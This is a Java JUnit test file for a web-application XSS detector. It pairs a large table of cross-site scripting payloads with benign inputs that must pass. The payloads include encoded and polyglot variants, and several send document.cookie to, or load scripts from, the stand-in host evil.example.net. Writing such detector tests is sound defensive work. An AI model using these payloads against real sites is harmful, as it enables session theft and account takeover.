package ai.traceable.tme.engine.detect.xss;

import static org.assertj.core.api.Assertions.assertThat;

import ai.traceable.tme.engine.decode.Decoding;
import ai.traceable.tme.engine.detect.AttackClass;
import ai.traceable.tme.engine.detect.DetectionRule;
import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.detect.Severity;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.provider.Arguments;

class XssDetectorTest extends DetectorTableTest {
  private static final XssDetector DETECTOR = new XssDetector();
  private static final int BLOCK_THRESHOLD = 5;

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  /** Table values are decoded like a JSON or path value (a '+' stays a '+'). */
  @Override
  protected Inspected value(Placement placement, String name, String raw) {
    return new Inspected(placement, name, raw, Decoding.decode(raw, false));
  }

  private static Arguments a(String raw, String rule) {
    return a(Placement.QUERY, "q", raw, rule);
  }

  private static Arguments w(String raw, String rule) {
    return w(Placement.QUERY, "q", raw, rule);
  }

  private static Arguments b(String raw) {
    return b(Placement.QUERY, "q", raw);
  }

  private record Hit(DetectionRule rule, String snippet) {}

  /** Decodes {@code raw} like the engine does for a JSON or path value and inspects it. */
  private static List<Hit> inspect(String raw) {
    List<Hit> hits = new ArrayList<>();
    Inspected value = new Inspected(Placement.QUERY, "q", raw, Decoding.decode(raw, false));
    DETECTOR.inspect(value, (rule, snippet) -> hits.add(new Hit(rule, snippet)));
    return hits;
  }

  private static List<String> ids(List<Hit> hits) {
    return hits.stream().map(h -> h.rule().id()).toList();
  }

  private static int scoreAtParanoia1(List<Hit> hits) {
    return hits.stream()
        .filter(h -> h.rule().paranoia() == 1)
        .mapToInt(h -> h.rule().severity().score())
        .sum();
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        // rules the sections below do not name, and the weaker signals
        w("<script>", "xss-101"),
        w("Click here onclick=doSomething()", "xss-112"),
        w("<b onset=\"2024\">", "xss-113"),
        a("<a href=\"javascript:alert(1)\">", "xss-120"),
        a("data:text/html,<b>hi</b>", "xss-131"),
        w("type javascript:alert(1) in the address bar", "xss-132"),
        w("<embed src=https://cdn.example.net/movie.swf>", "xss-140"),
        a("<base href=//evil.example.net/>", "xss-141"),
        w("<template><p>x</p></template>", "xss-142"),
        w("<iframe src=https://www.youtube.com/embed/x>", "xss-143"),
        a("';alert(1)//", "xss-150"),
        w("';fetch('//evil.example.net')//", "xss-151"),
        w("alert(1)", "xss-152"),
        w("{{ $eval('1') }}", "xss-160"),
        w("-moz-binding:url(//evil.example.net/x.xml#x)", "xss-170"),
        a("<div style=\"-moz-binding:url(//evil.example.net/x.xml#x)\">", "xss-171"),
        // script elements
        a("<script>alert(1)</script>", "xss-100"),
        a("\"><script>alert(document.cookie)</script>", "xss-100"),
        a("<ScRiPt>alert(1)</sCrIpT>", "xss-100"),
        a("<script src=//evil.example.net/x.js></script>", "xss-100"),
        a("<script/src=data:,alert(1)>", "xss-100"),
        a("<scr<script>ipt>alert(1)</scr</script>ipt>", "xss-100"),
        a("<<script>alert(1)//<</script>", "xss-100"),
        a("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss-100"),
        a("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "xss-100"),
        a("&lt;script&gt;alert(1)&lt;/script&gt;", "xss-100"),
        a("&#60script&#62alert(1)&#60/script&#62", "xss-100"),
        a("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "xss-100"),
        a("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "xss-100"),
        a("<svg><script>alert&#40;1&#41;</script>", "xss-100"),
        a("<script>throw onerror=alert,1</script>", "xss-100"),
        a("</script><script>alert(1)</script>", "xss-100"),
        a("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", "xss-100"),
        a(
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>",
            "xss-100"),
        // event handlers
        a("<img src=x onerror=alert(1)>", "xss-110"),
        a("<IMG SRC=\"#\" ONERROR=\"alert('xss')\">", "xss-110"),
        a("<img src=x onerror=alert(1)//", "xss-110"),
        a("<svg onload=alert(1)>", "xss-110"),
        a("<svg/onload=alert(1)>", "xss-110"),
        a("<svg/onload=confirm`1`>", "xss-110"),
        a("<body onload=alert('XSS')>", "xss-110"),
        a("<body onpageshow=alert(1)>", "xss-110"),
        a("<details open ontoggle=alert(1)>", "xss-110"),
        a("<details/open/ontoggle=alert(1)>", "xss-110"),
        a("<video><source onerror=\"alert(1)\">", "xss-110"),
        a("<audio src=x onerror=alert(1)>", "xss-110"),
        a("<input autofocus onfocus=alert(1)>", "xss-110"),
        a("<select autofocus onfocus=alert(1)>", "xss-110"),
        a("<textarea autofocus onfocus=alert(1)></textarea>", "xss-110"),
        a("<marquee onstart=alert(1)>hi</marquee>", "xss-110"),
        a("<x onpointerover=alert(1)>hover me", "xss-110"),
        a("<a onpointerenter=alert(1)>x</a>", "xss-110"),
        a("<div style=\"animation-name:spin\" onanimationstart=\"alert(1)\"></div>", "xss-110"),
        a("<xss id=x tabindex=1 onfocus=alert(1)></xss>", "xss-110"),
        a("<frameset onload=alert(1)>", "xss-110"),
        a("<svg><discard onbegin=alert(1)>", "xss-110"),
        a("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "xss-110"),
        a("<img\nsrc=x\tonerror=alert(1)>", "xss-110"),
        a("<img%0Asrc=x%09onerror=alert(1)>", "xss-110"),
        a("<img/src/onerror=top[8680439..toString(30)](1)>", "xss-110"),
        a("<img src=x onerror=window['al'+'ert'](1)>", "xss-110"),
        a("<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>", "xss-110"),
        a("<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "xss-110"),
        a("<img src=x:alert(alt) onerror=eval(src) alt=0>", "xss-110"),
        a("<svg onload=alert&lpar;1&rpar;>", "xss-110"),
        a(
            "<a href=\"#\" onclick=\"fetch('//evil.example.net/?'+document.cookie)\">x</a>",
            "xss-110"),
        a("<img src=x onerror=\"javascript:alert(1)\">", "xss-110"),
        // attribute break-outs into markup
        a("\"><svg onload=alert(1)>", "xss-110"),
        a("'><img src=x onerror=alert(1)>", "xss-110"),
        a("\"><img src=x onerror=prompt(1)>", "xss-110"),
        a("%22%3E%3Csvg%20onload%3Dalert(1)%3E", "xss-110"),
        a("x\"><iframe srcdoc=\"<script>alert(1)</script>\">", "xss-141"),
        // mutation XSS
        a("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "xss-110"),
        a("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "xss-110"),
        a("<!--<img src=\"--><img src=x onerror=alert(1)//\">", "xss-110"),
        a("<svg><style><img src=x onerror=alert(1)></style></svg>", "xss-110"),
        // URLs with script schemes
        a("<iframe src=\"javascript:alert(1)\"></iframe>", "xss-120"),
        a("<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">", "xss-141"),
        a("<a href=\"javascript:alert(1)\">click</a>", "xss-120"),
        a("<a href=javascript:alert(1)>x</a>", "xss-120"),
        a("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "xss-120"),
        a("<a href=\"java%0ascript:alert(1)\">x</a>", "xss-120"),
        a("<a href=\"jav&#x61;script:alert(1)\">click</a>", "xss-120"),
        a("<a href=\"javascript&colon;alert(1)\">x</a>", "xss-120"),
        a("<a href=\" &#14; javascript:alert(1)\">x</a>", "xss-120"),
        a(
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "xss-120"),
        a(
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "xss-120"),
        a("<embed src=\"javascript:alert(1)\">", "xss-120"),
        a("<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "xss-120"),
        a("<form action=\"javascript:alert(1)\"><input type=submit>", "xss-120"),
        a("<button formaction=javascript:alert(1)>go</button>", "xss-120"),
        a("<table background=\"javascript:alert(1)\">", "xss-120"),
        a(
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>Click</text></a>",
            "xss-120"),
        a("<svg><set attributeName=onmouseover to=alert(1)>", "xss-141"),
        a(
            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
            "xss-120"),
        a("<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?>", "xss-120"),
        // page takeover elements
        a("<base href=\"https://evil.example.net/\">", "xss-141"),
        a("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "xss-141"),
        a("<link rel=import href=https://evil.example.net/x.html>", "xss-141"),
        a(
            "<object type=\"text/x-scriptlet\" data=\"https://evil.example.net/x.sct\"></object>",
            "xss-141"),
        // CSS
        a("<div style=\"background:url(javascript:alert(1))\">", "xss-130"),
        a("<div style=\"width:expression(alert(1))\">", "xss-171"),
        a("<style>@import 'javascript:alert(1)';</style>", "xss-130"),
        a("color:red;background:url('javascript:alert(1)')", "xss-130"),
        a(
            "<STYLE>BODY{-moz-binding:url(\"http://evil.example.net/x.xml#xss\")}</STYLE>",
            "xss-171"),
        a("<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">", "xss-171"),
        a(
            "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
                + "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028"
                + " 1\\0029'\\0029\">",
            "xss-130"),
        a("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "xss-100"),
        a("<BR SIZE=\"&{alert('XSS')}\">", "xss-150"),
        // javascript: and data: values
        a("javascript:alert(1)", "xss-130"),
        a("JaVaScRiPt:alert(document.domain)", "xss-130"),
        a("java%09script:alert(1)", "xss-130"),
        a("jav&#x09;ascript:alert(1)", "xss-130"),
        a("javascript&#58alert(1)", "xss-130"),
        a("  javascript://%0aalert(1)", "xss-130"),
        a("javascript:fetch('//evil.example.net/'+document.cookie)", "xss-130"),
        a("vbscript:msgbox(1)", "xss-130"),
        a("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss-131"),
        a("{\"website\": \"javascript:alert(document.cookie)\"}", "xss-130"),
        // script-context break-outs
        a("\";alert(1)//", "xss-150"),
        a("'-alert(1)-'", "xss-150"),
        a("\\';alert(1);//", "xss-150"),
        a("'+alert(document.cookie)+'", "xss-150"),
        a("\");alert(String.fromCharCode(88,83,83));//", "xss-150"),
        a("\"}};alert(1);//", "xss-150"),
        a("';eval(name)//", "xss-150"),
        a("'-confirm`1`-'", "xss-150"),
        a("\";top['al'+'ert'](1)//", "xss-150"),
        a("';import('//evil.example.net/x.js')//", "xss-150"),
        a("'-setTimeout('alert(1)')-'", "xss-150"),
        a("\\\"-alert(1)}//", "xss-150"),
        a("'/**/;/**/prompt(1)//", "xss-150"),
        a("';\nnew Function('alert(1)')()//", "xss-150"),
        a("1;alert(1)", "xss-150"),
        a("-alert(1)-", "xss-150"),
        a("`;alert(1);`", "xss-150"),
        a("${alert(document.cookie)}", "xss-150"),
        a("`${prompt(1)}`", "xss-150"),
        // handler injection into an existing tag
        a("x\" onmouseover=\"alert(1)", "xss-111"),
        a("\" autofocus onfocus=\"alert(1)", "xss-111"),
        a("' onclick='alert(1)", "xss-111"),
        a("\"onmouseover=alert`1`//", "xss-111"),
        a("x onmouseover=alert(1)", "xss-111"),
        // templates
        a("{{constructor.constructor('alert(1)')()}}", "xss-161"),
        a("{{$on.constructor('alert(1)')()}}", "xss-161"),
        a("{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}", "xss-161"),
        a("{{[].pop.constructor('alert(1)')()}}", "xss-161"),
        a(
            "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
                + "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
            "xss-161"),
        a("{{$el.ownerDocument.defaultView.alert(1)}}", "xss-161"),
        a("<input autofocus ng-focus=\"$event.view.alert(1)\">", "xss-110"),
        a("<div v-on:click=\"$event.view.prompt(1)\">x</div>", "xss-110"),
        // more contexts
        a("'}catch(e){alert(1)}//", "xss-150"),
        a("}alert(1);{//", "xss-150"),
        a("<svg><script>/<@/>alert(1)</script>", "xss-100"),
        a("<button form=test onformchange=alert(1)>", "xss-110"),
        a("'||alert(1)||'", "xss-150"),
        a("\"]);alert(1);//", "xss-150"),
        a("</textarea><script>alert(1)</script>", "xss-100"),
        a("</title><svg onload=alert(1)>", "xss-110"),
        a("--><svg onload=alert(1)>", "xss-110"),
        a("]]><script>alert(1)</script>", "xss-100"),
        a("<title><img src=\"</title><img src onerror=alert(1)>\">", "xss-110"),
        a("<img src=`x`onerror=alert(1)>", "xss-111"),
        a("<svg><script href=\"data:,alert(1)\" />", "xss-100"),
        a("<script type=\"module\">import('//evil.example.net/x.js')</script>", "xss-100"),
        a("<embed src=//evil.example.net/x.swf allowscriptaccess=always>", "xss-141"),
        a(
            "<a href=\"javascript:document.location='https://evil.example.net/?'+document.cookie\">x</a>",
            "xss-120"),
        // polyglots and encodings
        a(
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
                + "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
            "xss-110"),
        a("PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+", "xss-100"),
        a("PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ ", "xss-100"),
        a(
            "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMu"
                + "b3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\">",
            "xss-120"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        // rich text
        b("<p>Hello <b>world</b></p>"),
        b("<ul><li>item</li><li>other</li></ul>"),
        b("<a href=\"https://example.com/page?x=1\">link</a>"),
        b("<img src=\"https://cdn.example.com/a.png\" alt=\"photo\">"),
        b("<span style=\"color:red\">red</span>"),
        b("<br/>"),
        b("<table><tr><td>1</td><td>2</td></tr></table>"),
        b(
            "<p>Dear customer,</p><ul><li>Free returns</li><li>24/7 support</li></ul>"
                + "<p><a href=\"https://help.example.com/returns\">Learn more</a></p>"),
        b(
            "<p>Our <b>best-selling</b> trail shoe.</p><p>See the <a href=\"https://www.example.org/"
                + "size-guide\" target=\"_blank\" rel=\"noopener\">size guide</a>.</p>"),
        b(
            "<table role=\"presentation\" width=\"100%\"><tr><td style=\"padding:16px;font-family:Arial\">"
                + "<img src=\"https://cdn.example.com/logo.png\" alt=\"Example\" width=\"120\">"
                + "<h1>Welcome!</h1></td></tr></table>"),
        b(
            "<p>To reset, go to <code>Settings &gt; Security</code> and click <kbd>Reset</kbd>.</p>"
                + "<p>&copy; 2024 Example&nbsp;Inc.</p>"),
        b("%3Ch2%3EAbout+us%3C%2Fh2%3E%3Cp%3EFounded+in+%3Cem%3E1998%3C%2Fem%3E.%3C%2Fp%3E"),
        b(
            "<h2>About us</h2><p>Founded in <em>1998</em> by <strong>Maria D'Angelo</strong>.</p>"
                + "<blockquote>Quality first.</blockquote>"),
        b(
            "<p class=\"MsoNormal\" style=\"margin-bottom:0cm;line-height:normal\"><span lang=\"EN-GB\" "
                + "style=\"font-size:11.0pt\">Hello<o:p></o:p></span></p>"),
        b(
            "<b style=\"font-weight:normal;\" id=\"docs-internal-guid-1a2b3c4d\"><span style=\"font-size:"
                + "11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;\">"
                + "Meeting notes</span></b>"),
        b(
            "<!--[if mso]><table><tr><td><![endif]--><div>Hi</div><!--[if mso]></td></tr></table>"
                + "<![endif]-->"),
        b("<a href=\"mailto:support@example.com?subject=Hello%20there\">Email us</a>"),
        b("<a href=\"tel:+14155550199\">Call</a>"),
        b("<a href=\"#section-2\">Jump</a> <a href=\"/relative/path\">rel</a>"),
        b("<a href=\"javascript:void(0)\">menu</a>"),
        b(
            "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42"
                + "mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\" alt=\"dot\">"),
        b(
            "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">"),
        b(
            "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" "
                + "frameborder=\"0\" allowfullscreen></iframe>"),
        b(
            "<video controls src=\"https://cdn.example.com/v.mp4\" poster=\"https://cdn.example.com/p.jpg\">"
                + "</video>"),
        b("<input type=\"checkbox\" checked disabled> <label for=\"x\">Remember me</label>"),
        b("<button onClick={handleClick}>Save</button>"),
        b(
            "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":"
                + "\"Organization\",\"sameAs\":[\"https://example.com\"]}</script>"),
        b("<script type=\"text/x-handlebars-template\" id=\"row\"><td>{{name}}</td></script>"),
        b(
            "<DeleteObjects><Quiet>true</Quiet><Object><Key>logs/app.log</Key></Object></DeleteObjects>"),
        b("<Price><Base>USD</Base><Amount>10</Amount></Price>"),
        b("<button @click=\"open = !open\" ng-click=\"vm.save()\">Save</button>"),
        b("<div class=\"note\" data-id=\"42\" aria-label=\"Note: x < y\">text</div>"),
        // text with angle brackets
        b("x<5 and y>3"),
        b("5 < 10 > 3"),
        b("a <b> c"),
        b("<div> vs <span>"),
        b("I <3 this community!! <br> Thanks everyone :-)"),
        b("<3 <3 <3"),
        b("a <- b and c -> d"),
        b("C6H12O6 + 6O2 -> 6CO2 + 6H2O"),
        b("Room <B2>"),
        b("Fix <Header> layout on mobile"),
        b("The `<Header>` component overflows at < 360px width"),
        b("Jane Doe <jane.doe@example.com>"),
        b("jane.doe+shopping@gmail.com"),
        b("Deploy done :rocket: <https://ci.example.com/runs/881|run #881>"),
        b("What does <script> do in HTML?"),
        b("The </script> tag closes a script block"),
        b("P@$$w0rd!<>'\";--"),
        // markup-ish documents
        b(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5 "
                + "10-5-10-5z\" fill=\"#4f46e5\"/><title>Logo</title></svg>"),
        b(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
                + "<circle cx=\"50\" cy=\"50\" r=\"40\" fill=\"url(#g)\"/><use xlink:href=\"#g\"/></svg>"),
        b(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"1\"><customer email=\"a@example.com\">"
                + "Jane</customer></order>"),
        b(
            "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body>"
                + "<tns:GetBalance><tns:accountId>12345</tns:accountId></tns:GetBalance></soapenv:Body>"
                + "</soapenv:Envelope>"),
        b(
            "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?><report><kpi value=\"3.4%\"/></report>"),
        b(
            "<Locations><Location name=\"Zurich HB\" lat=\"47.3779\" lon=\"8.5403\" online=\"true\"/>"
                + "</Locations>"),
        b(
            "<description><![CDATA[<p>We moved from a <strong>single</strong> node.</p>]]></description>"),
        b("<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>"),
        b("#include <stdio.h>\nint main(void) { printf(\"%s\", buf); return 0; }"),
        b("<dependency><groupId>org.apache</groupId><version>2.23.1</version></dependency>"),
        b(
            "<form action=\"/search\" method=\"get\"><input type=\"text\" name=\"q\" placeholder=\"Search\">"
                + "<button type=\"submit\">Go</button></form>"),
        b("<Files .htpasswd>\n  Require all denied\n</Files>"),
        b("<PatternLayout pattern=\"%d{yyyy-MM-dd HH:mm:ss} %-5level %logger{36} - %msg%n\"/>"),
        // words, URLs, CSS
        b("Set an alert for tomorrow"),
        b("The script on your homepage is slow. Alert: the popup keeps coming back!"),
        b("Try alert('hi') in the console to test"),
        b("https://developer.mozilla.org/en-US/docs/Web/JavaScript"),
        b("https://www.google.com/search?q=javascript+tutorial"),
        b("JavaScript: The Good Parts"),
        b("JavaScript: The Definitive Guide (7th ed.)"),
        b("Learn JavaScript: arrays, objects (part 1)"),
        b("javascript tutorial for beginners"),
        b("color: red;"),
        b("font-family: \"Helvetica Neue\", Arial; margin: 0 auto; background: url(/img/bg.png);"),
        b("Regular expression(s) are hard"),
        b("body { color: red; /* see expression() docs */ }"),
        b(
            "<style>v\\:* {behavior:url(#default#VML);}</style><!--[if gte mso 9]><v:roundrect "
                + "href=\"https://example.com/offer\" arcsize=\"10%\"><![endif]-->"),
        b("C:\\Users\\Public\\file.txt (copy)"),
        b("Use \\( and \\) in regex: \\d+(\\.\\d+)?"),
        b("Price +ADw-nothing+AD4- here and a+ACI-b"),
        b("Use the onerror handler to catch failures; onload fires later."),
        b("onboarding=true"),
        b("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk"),
        b("mailto:someone@example.com"),
        b("urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6"),
        b("2024-05-01T10:15:30.123Z"),
        b("https://app.example.com/callback?state=af0ifjsldkj&code=SplxlOBeZQQYbYS6WxSbIA"),
        // quotes, JSON, code
        b("O'Brien"),
        b("D'Angelo"),
        b("It's the best pizza I've had; the owner's 'secret sauce' is amazing -- 10/10"),
        b("He said \"stop\"; then he left"),
        b("{\"name\":\"O'Brien\",\"tags\":[\"a\",\"b\"],\"n\":1,\"onload\":true,\"online\":false}"),
        b("{\"message\": \"TypeError: Cannot read properties of undefined (reading 'map')\"}"),
        b("at ProductList (webpack://app/src/components/ProductList.tsx:42:18)"),
        b("In Excel use =IF(A1>0; \"yes\"; \"no\") and =CONCAT(B1; \" \"; C1)."),
        b("if (a < b && c > d) { return \"x\"; }"),
        b("Pass it as an argument to `--eval`, or piped to `node` via `STDIN`"),
        b("if (ev === 'resume' && this[_tail]) { setTimeout(fn, 9999); }"),
        b("this.code = 'EBADSIZE';\n  constructor(found, expect) { return import(name); }"),
        b("Run all `<script>` tags together within that context (see below)."),
        b("const el = document.getElementById('x');\nel.innerHTML = '<b>Hello</b>';"),
        b("const tpl = `Hello ${user.name}, you have ${count} new messages`;\nconsole.log(tpl);"),
        b(
            "{{#each items}}<tr><td>{{this.name}}</td><td>{{formatPrice this.price}}</td></tr>{{/each}}"),
        b(
            "Hello {{name}}, your order #{{order.id}} ships on {{order.ship_date | date: \"%b %d\"}}."),
        b(
            "{% extends 'base.html' %}{% block content %}<h1>{{ page.title }}</h1>{{ page.body | safe }}"
                + "{% endblock %}"),
        b("echo \"sha=${{ github.sha }}\" >> $GITHUB_OUTPUT"),
        b("spring.datasource.url=${DB_URL:jdbc:postgresql://localhost:5432/app}"),
        b("rate(errors[5m]) > 0.05"),
        b("shirt color:(red|green) size:M"),
        b("Call me at (0161) 496-0000 or \"the office\""),
        b("Tee \"Classic\" (L) - 'Best Dad' mug"),
        b(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/124.0.0.0 Safari/537.36"),
        b("\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
        b("session_id=8f14e45fceea167a5a36dedd4bea2545; _ga=GA1.1.1843920571.1714567890"),
        b(
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36"),
        b(
            "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg=="),
        b("SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBwbGFpbiB0ZXh0IG1lc3NhZ2U="),
        b("I would like to order three more units please"),
        b("Please call me back tomorrow morning"),
        b("It's 5 o'clock; let's go"),
        b("x = y ? 'a' : 'b';"),
        b("'); DROP TABLE students;--"),
        b("<p>Price &lt; 10 &amp; qty &gt; 2</p>"),
        b("<img alt=\"on load\" src=\"/a.png\">"),
        b("window.location.href and document.cookie are explained in chapter 3"));
  }

  @Test
  void corpusSizes() {
    assertThat(attacks().count()).isGreaterThanOrEqualTo(80);
    assertThat(benign().count()).isGreaterThanOrEqualTo(80);
    assertThat(raws(attacks()).distinct().count()).isEqualTo(attacks().count());
    assertThat(raws(benign()).distinct().count()).isEqualTo(benign().count());
  }

  private static Stream<String> raws(Stream<Arguments> rows) {
    return rows.map(row -> (String) row.get()[2]);
  }

  @Test
  void weakerSignalsAloneStayBelowTheBlockingScore() {
    for (String v :
        List.of(
            "<td style=\"width:expression(document.body.clientWidth > 600 ? '600px' : 'auto')\">",
            "behavior: url(x.htc) is an old IE thing",
            "<embed src=https://cdn.example.net/movie.swf>",
            "';fetch('/api/ping')//",
            "{{ $eval('total') }}",
            "Click the button onclick=doSomething()")) {
      List<Hit> hits = inspect(v);
      assertThat(hits).as(v).isNotEmpty();
      assertThat(scoreAtParanoia1(hits)).as("%s -> %s", v, hits).isLessThan(BLOCK_THRESHOLD);
    }
  }

  @Test
  void nameTablesAreLoaded() {
    assertThat(HtmlNames.EVENT_HANDLERS)
        .hasSizeGreaterThan(150)
        .contains("onerror", "onload", "onmouseover", "ontoggle", "onbegin", "onpointerenter")
        .allMatch(n -> n.matches("on[a-z]{3,}"));
    assertThat(HtmlNames.URL_ATTRIBUTES).contains("href", "src", "xlink:href", "formaction");
    assertThat(HtmlNames.isFrameworkBinding("ng-click")).isTrue();
    assertThat(HtmlNames.isFrameworkBinding("(click)")).isTrue();
    assertThat(HtmlNames.isFrameworkBinding("class")).isFalse();
  }

  @Test
  void rewritesResolveCssEscapesAndUtf7() {
    assertThat(Rewrites.cssUnescaped("exp/**/ression(\\61 lert(1))"))
        .isEqualTo("expression(alert(1))");
    assertThat(Rewrites.cssUnescaped("a\\:b /* open")).isEqualTo("a:b ");
    assertThat(Rewrites.utf7("+ADw-script+AD4-a+-b")).isEqualTo("<script>a+b");
    assertThat(Rewrites.utf7("x + y +")).isEqualTo("x + y +");
  }

  @Test
  void everyRuleIsDeclaredOnceWithAWellFormedId() {
    List<DetectionRule> rules = DETECTOR.rules();
    Set<String> ids = new HashSet<>();
    for (DetectionRule r : rules) {
      assertThat(r.id()).matches("xss-\\d{3}");
      assertThat(ids.add(r.id())).as(r.id()).isTrue();
      assertThat(r.attackClass()).isEqualTo(AttackClass.XSS);
      assertThat(r.description()).isNotBlank().doesNotContain("\n");
      assertThat(Integer.parseInt(r.id().substring(4))).isBetween(100, 199);
    }
    assertThat(DETECTOR.attackClass()).isEqualTo(AttackClass.XSS);
    assertThat(rules).hasSizeGreaterThanOrEqualTo(8);
  }

  @Test
  void reportedRulesAreDeclaredAndSnippetsAreShort() {
    Set<DetectionRule> declared = new HashSet<>(DETECTOR.rules());
    raws(Stream.concat(attacks(), benign()))
        .flatMap(v -> inspect(v).stream())
        .forEach(
            h -> {
              assertThat(declared).contains(h.rule());
              assertThat(h.snippet().length()).isLessThanOrEqualTo(64);
            });
  }

  @Test
  void stopsAtTheFirstCriticalHitAndReportsEachRuleOnce() {
    List<Hit> hits =
        inspect("<script>alert(1)</script><img src=x onerror=alert(1)>javascript:alert(1)");
    assertThat(hits.stream().filter(h -> h.rule().severity() == Severity.CRITICAL)).hasSize(1);
    List<Hit> warnings = inspect("<script> and <script> and </script>");
    assertThat(ids(warnings)).containsExactly("xss-101");
  }

  @Test
  void snippetPointsAtTheAttack() {
    List<Hit> hits = inspect("harmless text, nothing here at all, then <svg onload=alert(1)>");
    assertThat(hits).isNotEmpty();
    assertThat(hits.get(0).snippet()).contains("onload=alert(1)");
  }

  @Test
  void valuesWithoutTriggerCharactersDoOnlyThePreCheck() {
    for (String v : List.of("hello world", "12345", "a-b_c.d/e", "Set an alert for tomorrow")) {
      List<Hit> hits = new ArrayList<>();
      long work = DETECTOR.scan(v, (r, s) -> hits.add(new Hit(r, s)));
      assertThat(work).isEqualTo(v.length());
      assertThat(hits).isEmpty();
    }
  }

  @Test
  void attackAfterManyHarmlessTagsIsStillFound() {
    String s = "<b>x</b>".repeat(20_000) + "<script>alert(1)</script>";
    assertThat(ids(inspect(s))).contains("xss-100");
    String handler = "<i>".repeat(30_000) + "<img src=x onerror=alert(1)>";
    assertThat(scoreAtParanoia1(inspect(handler))).isGreaterThanOrEqualTo(BLOCK_THRESHOLD);
  }
}
